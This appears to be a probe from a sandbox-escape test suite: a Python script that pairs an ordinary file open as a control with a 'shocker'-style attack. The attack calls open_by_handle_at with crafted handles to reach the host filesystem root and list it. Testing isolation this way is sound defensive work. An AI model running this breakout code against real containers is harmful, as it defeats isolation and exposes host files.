"""Opens files by handle (name_to_handle_at, open_by_handle_at), which ignores mounts and modes.

Layer: kernel
Escape: a handle is opened, as in the Docker breakout `shocker`
Control: a file is opened by its name
"""

# control
import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)


def tried(name, *args):
    """The result of a C function, and the name of its error."""
    ctypes.set_errno(0)
    result = getattr(libc, name)(*args)
    return result, errno.errorcode.get(ctypes.get_errno(), "")


open("own.txt", "w").write("x") == 1

# attack
handle = ctypes.create_string_buffer(b"\x80\0\0\0" + b"\1\0\0\0" + b"\2\0\0\0\0\0\0\0", 200)
mount_id = ctypes.c_int()
loot = [tried("name_to_handle_at", -100, b"/workspace", handle, ctypes.byref(mount_id), 0)]
shocker = ctypes.create_string_buffer(b"\x08\0\0\0" + b"\1\0\0\0" + b"\2\0\0\0\0\0\0\0", 16)
workspace = os.open("/workspace", os.O_RDONLY)
for handle in (handle, shocker):
    opened = tried("open_by_handle_at", workspace, handle, os.O_RDONLY)
    loot.append(opened)
    if opened[0] >= 0:
        loot.append(f"ESCAPED: {os.listdir(opened[0])}")
loot
